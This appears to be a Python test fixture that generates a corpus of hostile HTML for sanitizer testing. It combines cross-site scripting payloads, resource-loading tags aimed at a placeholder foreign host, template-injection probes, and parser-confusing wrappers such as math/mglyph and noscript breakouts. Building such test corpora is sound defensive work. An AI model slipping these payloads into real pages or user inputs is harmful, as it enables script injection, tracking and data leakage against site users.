"""A corpus of hostile markup, made of places it may land in and things it may try. `SINK` is a foreign host."""

from __future__ import annotations

# What it tries: to run, to fetch, to lead away, to be computed.
VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<img src='SINK/pixel.png'>",
    "<p style='background:url(SINK/style)'>x</p>",
    "<link rel=stylesheet href='SINK/sheet.css'><style>@import 'SINK/import';</style>",
    "<video poster='SINK/poster' autoplay><source src='SINK/film' onerror=alert(1)></video>",
    "<meta http-equiv=refresh content='0;url=SINK/away'><base href='SINK/'>",
    "<object data='SINK/object'></object><embed src='SINK/embed'>",
    "q{{7*7}}z q${7*7}z q<%= 7*7 %>z q#{7*7}z",
)
# Where it lands: in text, in an attribute, in an element that is read otherwise, in what a parser reads twice.
PLACES = (
    "{}",
    '">{}',
    "'>{}",
    "</title></textarea></script></style></iframe>{}",
    "<!-- --!>{}<!-- -->",
    "<svg><desc>{}</desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style>{}--></table></mtext></math>",
    '<noscript><p title="</noscript>{}"></noscript>',
    "<table><tr><td>{}</td></tr></table>",
    "<b title='{}'>x</b>",
    "&lt;b&gt;{}&lt;/b&gt;",
)


def corpus(sink: str) -> list[str]:
    """Every vector in every place."""
    return [place.replace("{}", vector).replace("SINK", sink) for vector in VECTORS for place in PLACES]
